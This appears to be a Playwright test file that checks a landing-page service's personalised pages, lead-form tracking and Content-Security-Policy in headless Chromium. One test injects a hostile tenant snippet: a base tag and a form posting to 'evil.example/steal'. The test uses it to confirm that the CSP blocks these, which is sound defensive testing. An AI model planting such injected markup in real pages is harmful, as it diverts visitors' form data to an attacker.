import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { type Browser, chromium, type Page } from 'playwright-core';
import { available, CHROMIUM, skip, until, USER_AGENT } from '../browser.js';
import { startApp, type Json, type TestApp, ok } from '../helpers.js';

// A visit driven end to end in real headless Chromium (Debian's): a page created through the API,
// published and linked, is served on its tenant domain personalised for its audience; the visitor
// scrolls, clicks and submits the lead form; the session and the form's event are then found
// through the API. Chromium resolves *.localhost to loopback, so the fallback domain needs no DNS.

let t: TestApp;
let browser: Browser;
let origin: string;
before(async () => {
  if (skip) return;
  assert.ok(available, `no browser at ${CHROMIUM}: .ci/run installs Debian's chromium`);
  t = await startApp();
  const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = new URL(address);
  const fallback = ((await t.req('GET', '/v0/tenant_domains')).body.items as Json[]).find((d) => d.isFallback).hostname;
  origin = `http://${fallback}:${port}`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
});
after(async () => {
  await browser?.close();
  await t?.close();
});

/** The form's confirmation: announced (role=status), and in the viewport without any scrolling by the visitor. */
async function confirmationInView(tab: Page) {
  const status = tab.getByRole('status');
  assert.equal(await status.count(), 1);
  assert.match((await status.textContent()) ?? '', /Thank you! Your details have been sent\./);
  const where = await until('the confirmation scrolled into view', async () => {
    const box = (await tab.evaluate(
      "(() => { const r = document.querySelector('[role=status]').getBoundingClientRect(); return { top: r.top, bottom: r.bottom, height: innerHeight, scrolled: scrollY }; })()",
    )) as { top: number; bottom: number; height: number; scrolled: number };
    return box.top >= 0 && box.bottom <= box.height ? box : undefined;
  });
  assert.ok(where.scrolled > 0, `the page opened at its confirmation, not at its top: ${JSON.stringify(where)}`);
}

describe('a real browser visit', { skip }, () => {
  test('served personalised, measured, and its lead form recorded', { timeout: 90_000 }, async () => {
    const person = ok(await t.req('POST', '/v0/persons', { name: 'Jane Doe', email: 'jane@acme.example', domain: 'acme.example' }), 201);
    ok(await t.req('POST', '/v0/accounts', { name: 'Acme Inc', domain: 'acme.example' }), 201);
    const long = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} about **spring** for {{person.firstName}}.`).join('\n\n');
    const page = ok(
      await t.req('POST', '/v0/pages', {
        name: 'Spring',
        title: 'Spring launch',
        pageContext: 'launch',
        pageType: 'inbound',
        content: {
          headline: 'Hello {{person.firstName | there}}',
          subheadline: 'For {{account.name}}',
          sections: [{ heading: 'Why', body: long }],
        },
        actions: [
          { purpose: 'learn', buttonTitle: 'Read more', actionType: 'link', url: 'https://example.com/more' },
          { purpose: 'lead', buttonTitle: 'Talk to us', actionType: 'form', url: '' },
        ],
        scripts: [{ name: 'tag', description: '', content: "<script>document.body.dataset.tenantScript = 'ran'</script>", enabled: true }],
      }),
      201,
    );
    ok(await t.req('PATCH', `/v0/pages/${page.pageId}`, { status: 'published' }));
    const audience = ok(await t.req('POST', `/v0/pages/${page.pageId}/audiences`, { personId: person.personId }), 201);
    ok(
      await t.req('POST', '/v0/page_links', { path: '/spring/jane', target: { targetType: 'audience', audienceId: audience.audienceId } }),
      201,
    );

    // Headless Chromium names itself HeadlessChrome, which the collector ignores as a bot (rightly):
    // the visit is a person's, so the browser says what an ordinary Chrome says.
    const context = await browser.newContext({
      userAgent: USER_AGENT,
    });
    const tab = await context.newPage();
    if (process.env.DEBUG_BROWSER) {
      tab.on('request', (r) => console.log('REQ', r.method(), r.url(), r.postData()));
      tab.on('response', (r) => console.log('RES', r.status(), r.url()));
      tab.on('requestfailed', (r) => console.log('FAILED', r.url(), r.failure()?.errorText));
    }
    const response = await tab.goto(`${origin}/spring/jane?utm_source=newsletter&utm_campaign=spring`);
    assert.equal(response?.status(), 200);
    assert.equal(await tab.locator('h1').first().textContent(), 'Hello Jane');
    assert.ok((await tab.content()).includes('For Acme Inc'));
    assert.equal(await tab.evaluate('document.cookie'), '', 'no cookies');
    // Under the document's Content-Security-Policy the tenant's enabled script still runs.
    assert.match(String(response?.headers()['content-security-policy']), /form-action 'self'/);
    assert.equal(await tab.evaluate('document.body.dataset.tenantScript'), 'ran');

    // A visit a person makes: time on the page, scrolling to the bottom, a few clicks.
    await tab.waitForTimeout(1500);
    await tab.mouse.wheel(0, 20_000);
    await tab.evaluate('window.scrollTo(0, document.body.scrollHeight)');
    await tab.waitForTimeout(500);
    for (let i = 0; i < 3; i++) await tab.locator('h1').first().click();

    // The lead form, without any help from JavaScript of ours. Its honeypot is off-screen, out of
    // reach, and left empty by a person.
    const trap = tab.locator('input[name="website"]');
    const box = await trap.boundingBox();
    assert.ok(box && box.x + box.width < 0, `the honeypot is off-screen: ${JSON.stringify(box)}`);
    await tab.locator('input[name="name"]').focus();
    const reached: string[] = [];
    for (let i = 0; i < 3; i++) {
      await tab.keyboard.press('Tab');
      reached.push(String(await tab.evaluate("document.activeElement.getAttribute('name') || document.activeElement.tagName")));
    }
    assert.deepEqual(reached, ['email', 'phone', 'BUTTON'], 'tabbing goes past the honeypot');
    await tab.fill('input[name="name"]', 'Jane Doe');
    await tab.fill('input[name="email"]', 'jane.form@acme.example');
    await tab.fill('input[name="phone"]', '+14155550123');
    await Promise.all([
      tab.waitForURL(/submitted=1/),
      tab.locator('form button[type="submit"], form input[type="submit"]').first().click(),
    ]);
    // Issue 45: back to the URL the form was on, its query kept, at the confirmation, which is in view and a status.
    const formAction = page.actions.find((a: Json) => a.actionType === 'form').actionId;
    assert.equal(tab.url(), `${origin}/spring/jane?utm_source=newsletter&utm_campaign=spring&submitted=1#pam-thanks-${formAction}`);
    assert.equal(await tab.locator('h1').first().textContent(), 'Hello Jane');
    await confirmationInView(tab);

    // Leaving the page sends the last report.
    await tab.close({ runBeforeUnload: true });

    const session = await until('the visit as a session', async () => {
      const list = ok(await t.req('GET', `/v0/pages/${page.pageId}/audience_sessions?audienceId=${audience.audienceId}`)).items as Json[];
      const s = list.find((x) => x.hasFormSubmit && x.totalClicksCount >= 3 && x.maxScrollDepthPercentage >= 90);
      if (process.env.DEBUG_BROWSER) console.log(JSON.stringify(list));
      return s;
    });
    assert.equal(session.audienceId, audience.audienceId);
    assert.equal(session.formSubmissionEmail, 'jane.form@acme.example');
    assert.equal(session.formSubmissionPhone, '+14155550123');
    assert.equal(session.hasConversion, true);
    assert.equal(session.isBounce, false);
    assert.equal(session.utmSource, 'newsletter');
    assert.equal(session.utmCampaign, 'spring');
    assert.ok(session.timeSpentSeconds > 0);
    assert.match(session.pageUrl, /\/spring\/jane/);

    const events = ok(await t.req('GET', '/v0/events?type=form.submitted')).items as Json[];
    assert.equal(events.length, 1);
    assert.equal(events[0].payload.data.email ?? events[0].payload.data.formSubmissionEmail, 'jane.form@acme.example');
    const created = ok(await t.req('GET', '/v0/events?type=audience_session.created')).items as Json[];
    assert.equal(created.length, 1, 'one session for the visit, created once');
    // Issue 36: another email than Jane's was typed on her link, so the lead is that new person's, via Jane.
    const { personId, viaPersonId } = events[0].payload.data;
    assert.notEqual(personId, person.personId);
    assert.equal(viaPersonId, person.personId);
    assert.deepEqual(ok(await t.req('GET', `/v0/persons/${person.personId}`)), person, 'Jane is unchanged');
    assert.deepEqual(ok(await t.req('GET', `/v0/persons/${person.personId}/logs?source=pages`)).items, []);
    const logs = ok(await t.req('GET', `/v0/persons/${personId}/logs?source=pages`)).items as Json[];
    assert.equal(logs.length, 1);
    assert.equal(logs[0].type, 'form-submitted');
  });

  test("the page itself: its header button reaches its form, its lead is kept, and a segment's visitor returns to the segment's confirmation", {
    timeout: 90_000,
  }, async () => {
    const long = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} about the offer.`).join('\n\n');
    const page = ok(
      await t.req('POST', '/v0/pages', {
        name: 'Offer',
        title: 'Offer',
        pageContext: 'offer',
        pageType: 'inbound',
        status: 'published',
        content: { headline: 'For everyone', subheadline: '', sections: [{ heading: 'Why', body: long }] },
        actions: [{ purpose: 'lead', buttonTitle: 'Get the offer', actionType: 'form', url: '' }],
      }),
      201,
    );
    const formAction = page.actions[0].actionId;
    ok(await t.req('PATCH', `/v0/pages/${page.pageId}`, { headerActionId: formAction }));
    ok(await t.req('POST', '/v0/page_links', { path: '/offer', target: { targetType: 'page', pageId: page.pageId } }), 201);

    const context = await browser.newContext({ userAgent: USER_AGENT });
    const tab = await context.newPage();
    await tab.goto(`${origin}/offer`);
    assert.equal(await tab.locator('h1').textContent(), 'For everyone');
    await tab.getByRole('link', { name: 'Get the offer' }).click();
    await tab.fill('input[name="name"]', 'Ann Itself');
    await tab.fill('input[name="email"]', 'ann.itself@example.com');
    await Promise.all([tab.waitForURL(/submitted=1/), tab.locator('form button[type="submit"]').click()]);
    assert.equal(tab.url(), `${origin}/offer?submitted=1#pam-thanks-${formAction}`);
    await confirmationInView(tab);
    const leads = await until('the lead of the page itself', async () => {
      const items = ok(await t.req('GET', `/v0/leads?pageId=${page.pageId}`)).items as Json[];
      return items.length > 0 ? items : undefined;
    });
    assert.equal(leads[0].audienceId, page.pageId);
    assert.equal(leads[0].submittedEmail, 'ann.itself@example.com');

    // A segment of the page: its visitor keeps its version through the form.
    const segment = ok(
      await t.req('POST', `/v0/pages/${page.pageId}/audiences`, {
        customName: 'Partners',
        rules: { match: 'all', conditions: [{ field: 'utm.source', operator: 'equals', value: 'partner' }] },
      }),
      201,
    );
    const versions = `/v0/pages/${page.pageId}/audiences/${segment.audienceId}/versions`;
    const version = ok(
      await t.req('POST', versions, { content: { headline: 'For partners', subheadline: '', sections: [{ heading: 'Why', body: long }] } }),
      201,
    );
    ok(await t.req('PATCH', `${versions}/${version.versionId}`, { status: 'published' }));
    await tab.goto(`${origin}/offer?utm_source=partner`);
    assert.equal(await tab.locator('h1').textContent(), 'For partners');
    await tab.fill('input[name="name"]', 'Pat Partner');
    await tab.fill('input[name="email"]', 'pat@partner.example');
    await Promise.all([tab.waitForURL(/submitted=1/), tab.locator('form button[type="submit"]').click()]);
    assert.equal(tab.url(), `${origin}/offer?utm_source=partner&submitted=1#pam-thanks-${formAction}`);
    assert.equal(await tab.locator('h1').textContent(), 'For partners', "the segment's thank-you, not the generic page");
    await confirmationInView(tab);
    await context.close();
  });

  test("each rule of the document's CSP holds in Chromium, and the tenant's scripts keep working", { timeout: 90_000 }, async () => {
    const watch =
      '<script>window.violations = []; document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.effectiveDirective));</script>';
    const hostile =
      '<base href="https://evil.example/"><object data="/_pam/v.js" type="text/plain" width="1" height="1"></object>' +
      '<form id="away" action="https://evil.example/steal" method="post"><input name="x" value="1"></form>';
    const tenant =
      '<script>document.body.dataset.inline = "ran"</script><button id="tenant-button" onclick="this.dataset.clicked = \'yes\'">Tenant</button>';
    const page = ok(
      await t.req('POST', '/v0/pages', {
        name: 'Policy',
        title: 'Policy page',
        pageContext: 'csp',
        pageType: 'inbound',
        status: 'published',
        content: { headline: 'Framed or not', subheadline: '', sections: [] },
        scripts: [
          { name: 'watch', description: '', content: watch, enabled: true },
          { name: 'hostile', description: '', content: hostile, enabled: true },
          { name: 'tenant', description: '', content: tenant, enabled: true },
        ],
      }),
      201,
    );
    const audience = ok(await t.req('POST', `/v0/pages/${page.pageId}/audiences`, {}), 201);
    ok(
      await t.req('POST', '/v0/page_links', { path: '/policy', target: { targetType: 'audience', audienceId: audience.audienceId } }),
      201,
    );

    const context = await browser.newContext({ userAgent: USER_AGENT });
    const tab = await context.newPage();
    const response = await tab.goto(`${origin}/policy`);
    assert.equal(response?.status(), 200);
    const violations = async () => (await tab.evaluate('window.violations')) as string[];
    await until('the object-src report', async () => ((await violations()).includes('object-src') ? true : undefined));

    // The tenant's inline script and inline handler run.
    assert.equal(await tab.evaluate('document.body.dataset.inline'), 'ran');
    await tab.click('#tenant-button');
    assert.equal(await tab.evaluate("document.getElementById('tenant-button').dataset.clicked"), 'yes');
    // base-uri 'none': the injected <base> moves no relative URL.
    assert.ok((await violations()).includes('base-uri'));
    assert.equal(await tab.evaluate('document.baseURI'), `${origin}/policy`);
    // object-src 'none': the <object> loaded nothing (reported above).
    // form-action 'self': a form to another origin is not sent; the visitor stays.
    await tab.evaluate("document.getElementById('away').requestSubmit()");
    await until('the form-action report', async () => ((await violations()).includes('form-action') ? true : undefined));
    assert.equal(tab.url(), `${origin}/policy`);

    // frame-ancestors 'self': framed by the page's own origin it shows; by another, it does not.
    const framer = (src: string) => `<!doctype html><title>framer</title><iframe name="inner" src="${src}"></iframe>`;
    const port = new URL(origin).port;
    const foreign = `http://elsewhere.localhost:${port}/framer`;
    const own = `${origin}/framer-test`;
    for (const url of [foreign, own]) {
      await context.route(url, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: framer(`${origin}/policy`) }));
    }
    const headlineIn = async (url: string) => {
      const framing = await context.newPage();
      await framing.goto(url);
      await framing.waitForTimeout(1000);
      const inner = framing.frames().find((f) => f !== framing.mainFrame());
      const text = inner
        ? await inner.evaluate('document.querySelector("h1") && document.querySelector("h1").textContent').catch(() => null)
        : null;
      await framing.close();
      return text;
    };
    assert.equal(await headlineIn(own), 'Framed or not');
    // Chromium shows its own error page in the frame instead ("… is blocked").
    assert.notEqual(await headlineIn(foreign), 'Framed or not');
    await context.close();
  });
});
